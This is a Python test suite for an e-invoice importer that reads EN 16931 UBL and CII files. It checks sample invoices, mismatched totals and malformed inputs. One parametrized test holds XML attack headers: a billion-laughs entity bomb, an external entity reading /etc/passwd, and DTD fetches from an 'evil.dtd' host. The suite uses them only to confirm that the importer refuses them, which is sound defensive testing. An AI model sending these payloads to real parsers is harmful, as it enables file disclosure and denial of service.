"""The real sample files, and files that are none."""

import json
import time
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from salesops.invoicing.domain.checking import findings
from salesops.invoicing.domain.document import Document, Kind
from salesops.invoicing.importers.reading import read_invoice
from vrops.core.errors import Invalid

pytestmark = pytest.mark.pure
D = Decimal
TODAY = date(2026, 11, 21)
AMOUNTS = {
    "sum_of_lines": "lines", "allowances": "allowances", "charges": "charges",
    "total_without_vat": "net", "total_vat": "tax", "total_with_vat": "gross",
    "prepaid": "prepaid", "rounding": "rounding", "amount_due": "due",
}  # fmt: skip
# Faults that the rules of EN 16931 let pass: lines whose price times quantity is another amount.
WRONG_LINES = {
    "ubl-tc434-example1.xml": ["20"], "CII_example1.xml": ["20"],
    "ubl-tc434-example3.xml": ["1", "2"], "CII_business_example_Z.xml": ["16"],
    "EN16931_1_Teilrechnung.cii.xml": ["4"],
}  # fmt: skip

Read = Callable[[str], Document]


@pytest.fixture
def samples(shared_data: Path) -> Path:
    return shared_data / "einvoices"


@pytest.fixture
def read(samples: Path) -> Read:
    return lambda name: read_invoice((samples / "files" / name).read_bytes(), today=TODAY)


def stated(samples: Path, ending: str) -> list[dict[str, Any]]:
    entries = json.loads((samples / "expected.json").read_text("utf-8"))["files"]
    return [entry for entry in entries if entry["file"].endswith(ending)]


def test_every_sample_says_what_it_states(samples: Path):
    entries = stated(samples, ".xml")
    assert len(entries) == 20
    for entry in entries:
        content = (samples / entry["file"]).read_bytes()
        document, facts = read_invoice(content, today=TODAY), entry["facts"]
        name = entry["file"].removeprefix("files/")
        found = {
            "syntax": document.syntax, "number": document.number,
            "type_code": document.type_code, "currency": document.currency,
            "issue_date": document.issued_on.isoformat(),
            "due_date": document.due_on and document.due_on.isoformat(),
            "seller": document.seller, "seller_vat": document.seller_vat or None,
            "buyer": document.buyer, "line_count": len(document.lines),
        }  # fmt: skip
        for field, value in found.items():
            wanted = facts[field]
            wanted = " ".join(wanted.split()) if isinstance(wanted, str) else wanted
            assert value == wanted, (name, field)
        for field, attribute in AMOUNTS.items():
            wanted = None if facts[field] is None else D(facts[field])
            assert getattr(document.totals, attribute) == wanted, (name, field)


def test_what_does_not_add_up_in_the_samples(samples: Path):
    for entry in stated(samples, ".xml"):
        name = entry["file"].removeprefix("files/")
        found = findings(read_invoice((samples / entry["file"]).read_bytes(), today=TODAY))
        assert [each.where for each in found] == [
            f"line {number}" for number in WRONG_LINES.get(name, [])
        ], name


def test_a_pdf_is_refused_with_what_to_do(samples: Path):
    for entry in stated(samples, ".pdf"):
        with pytest.raises(Invalid, match="send the invoice as XML"):
            read_invoice((samples / entry["file"]).read_bytes(), today=TODAY)


@pytest.mark.parametrize("name", ["EN16931_Einfach", "EN16931_Rabatte"])
def test_one_invoice_in_two_syntaxes_is_two_equal_records(read: Read, name: str):
    ubl, cii = read(f"{name}.ubl.xml"), read(f"{name}.cii.xml")
    assert ubl == cii
    assert (ubl.syntax, cii.syntax) == ("UBL", "CII")


def test_the_amount_owed_is_the_amount_due(read: Read):
    assert read("ubl-tc434-example5.xml").totals.due == D("2337.50")
    assert read("CII_example5.xml").totals.gross == D("4675.00")


def test_credit_notes_and_what_they_name(read: Read):
    assert read("ubl-tc434-creditnote1.xml").kind is Kind.CREDIT_NOTE
    assert read("EN16931_Gutschrift.cii.xml").kind is Kind.INVOICE  # 389, self-billed


# ---- files that are none ------------------------------------------------------------------------

UBL = """<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
 xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"
 xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
<cbc:ID>A-1</cbc:ID><cbc:IssueDate>2026-04-03</cbc:IssueDate>
<cbc:InvoiceTypeCode>380</cbc:InvoiceTypeCode>
<cbc:DocumentCurrencyCode>USD</cbc:DocumentCurrencyCode>
<cac:AccountingSupplierParty><cac:Party><cac:PartyLegalEntity>
<cbc:RegistrationName>Northgate</cbc:RegistrationName></cac:PartyLegalEntity></cac:Party>
</cac:AccountingSupplierParty>
<cac:LegalMonetaryTotal><cbc:LineExtensionAmount currencyID="USD">12.50</cbc:LineExtensionAmount>
<cbc:TaxExclusiveAmount currencyID="USD">12.50</cbc:TaxExclusiveAmount>
<cbc:TaxInclusiveAmount currencyID="USD">12.50</cbc:TaxInclusiveAmount>
<cbc:PayableAmount currencyID="USD">12.50</cbc:PayableAmount></cac:LegalMonetaryTotal>
<cac:InvoiceLine><cbc:ID>1</cbc:ID><cbc:InvoicedQuantity unitCode="C62">10</cbc:InvoicedQuantity>
<cbc:LineExtensionAmount currencyID="USD">12.50</cbc:LineExtensionAmount>
<cac:Item><cbc:Name>Contacts</cbc:Name><cac:BuyersItemIdentification><cbc:ID>VOICE</cbc:ID>
</cac:BuyersItemIdentification></cac:Item>
<cac:Price><cbc:PriceAmount currencyID="USD">1.25</cbc:PriceAmount></cac:Price></cac:InvoiceLine>
</Invoice>"""
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def changed(old: str, new: str) -> bytes:
    assert old in UBL
    return UBL.replace(old, new).encode()


def refusal(content: bytes) -> Invalid:
    began = time.process_time()  # what it costs, however busy the machine is
    with pytest.raises(Invalid) as refused:
        read_invoice(content, today=TODAY)
    assert time.process_time() - began < 2
    assert refused.value.errors
    return refused.value


def test_the_small_invoice_is_one():
    document = read_invoice(UBL.encode(), today=TODAY)
    assert (document.lines[0].item, document.totals.due) == ("VOICE", D("12.50"))
    assert findings(document) == ()


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE Invoice [<!ENTITY x "y">]>',
        f'<!DOCTYPE Invoice [<!ENTITY l0 "lol">{LAUGHS}]>',
        '<!DOCTYPE Invoice [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE Invoice SYSTEM "http://192.0.2.1/evil.dtd">',
        '<!DOCTYPE Invoice [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]>',
    ],
)
def test_document_types_are_refused_at_once(head: str):
    assert refusal(f"{head}{UBL}".encode()).code == "invoicing.doctype"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "not_xml"),
        (b"hello", "not_xml"),
        (b"%PDF-1.7 ...", "pdf"),
        (b"<Invoice>", "broken"),
        (b"<Invoice/>", "wrong_root"),
        (b"<?xml version='1.0' encoding='no-such'?><a/>", "broken"),
        (b"<a>" * 3_000, "depth"),
        (b"<a>" + b"<b/>" * 700_000 + b"</a>", "depth"),
        (b"<a>" + b" " * (25 * 1024 * 1024) + b"</a>", "size"),
        (b"<a>\x00</a>", "broken"),
        (UBL.replace("Invoice-2", "Order-2").encode(), "wrong_root"),
    ],
)
def test_other_files_are_refused(content: bytes, code: str):
    assert refusal(content).code == f"invoicing.{code}"


@pytest.mark.parametrize(
    ("old", "new", "pointer"),
    [
        ("<cbc:ID>A-1</cbc:ID>", "", "ID"),
        ("<cbc:ID>A-1</cbc:ID>", "<cbc:ID>---</cbc:ID>", "BT-1"),
        ("2026-04-03", "2026-02-30", "IssueDate"),
        ("2026-04-03", "soon", "IssueDate"),
        ("2026-04-03", "1026-04-03", "BT-2"),
        ("2026-04-03", "2027-04-03", "BT-2"),
        ("USD</cbc", "DOLLARS</cbc", "LineExtensionAmount"),
        ('<cbc:PayableAmount currencyID="USD">', '<cbc:PayableAmount currencyID="EUR">',
         "PayableAmount"),
        (">10<", ">1e3<", "line 1/InvoicedQuantity"),
        (">10<", ">NaN<", "line 1/InvoicedQuantity"),
        (">10<", f">{'9' * 400}<", "line 1/InvoicedQuantity"),
        (">10<", ">999999999999999<", "line 1"),
        (">1.25<", ">1.2500000000001<", "line 1/Price/PriceAmount"),
        ("Contacts", "Con\u202etacts", "line 1/Item/Name"),
        (
            '<cbc:LineExtensionAmount currencyID="USD">12.50</cbc:LineExtensionAmount>\n<cac:Item>',
            '<cbc:LineExtensionAmount currencyID="USD">12.503</cbc:LineExtensionAmount><cac:Item>',
            "line 1",
        ),
        ("<cbc:ID>1</cbc:ID>", "", "InvoiceLine/ID"),
    ],
)  # fmt: skip
def test_faults_name_their_element(old: str, new: str, pointer: str):
    assert pointer in [error.pointer for error in refusal(changed(old, new)).errors]


def test_impossible_periods_are_refused():
    period = "<cac:InvoicePeriod><cbc:StartDate>{}</cbc:StartDate><cbc:EndDate>{}</cbc:EndDate>"
    marker = "<cbc:DocumentCurrencyCode>USD</cbc:DocumentCurrencyCode>"
    for first, last in (
        ("2026-03-31", "2026-03-01"), ("2020-01-01", "2026-01-01"), ("9999-12-01", "9999-12-31")
    ):  # fmt: skip
        inside = period.format(first, last) + "</cac:InvoicePeriod>"
        assert refusal(changed(marker, marker + inside)).errors[0].pointer == "BG-14"


def test_an_impossible_day_of_delivery_is_refused():
    day = "<cbc:ActualDeliveryDate>9999-12-05</cbc:ActualDeliveryDate>"
    given = UBL.replace("<cac:LegalMonetaryTotal>", f"<cac:Delivery>{day}</cac:Delivery>"
                        "<cac:LegalMonetaryTotal>", 1)  # fmt: skip
    assert day in given
    assert "BT-72" in [error.pointer for error in refusal(given.encode()).errors]


def test_what_does_not_add_up_is_found():
    wrong = changed(">10<", ">11<")
    [finding] = findings(read_invoice(wrong, today=TODAY))
    assert finding.sentence == "Line 1: 11 at 1.25 is 13.75, and the line says 12.5."
    due = changed(
        '<cbc:PayableAmount currencyID="USD">12.50', '<cbc:PayableAmount currencyID="USD">99'
    )
    assert [f.code for f in findings(read_invoice(due, today=TODAY))] == ["total_mismatch"]
    cent = changed('<cbc:PayableAmount currencyID="USD">12.50',
                   '<cbc:PayableAmount currencyID="USD">12.51')  # fmt: skip
    assert [f.code for f in findings(read_invoice(cent, today=TODAY))] == ["rounding_difference"]
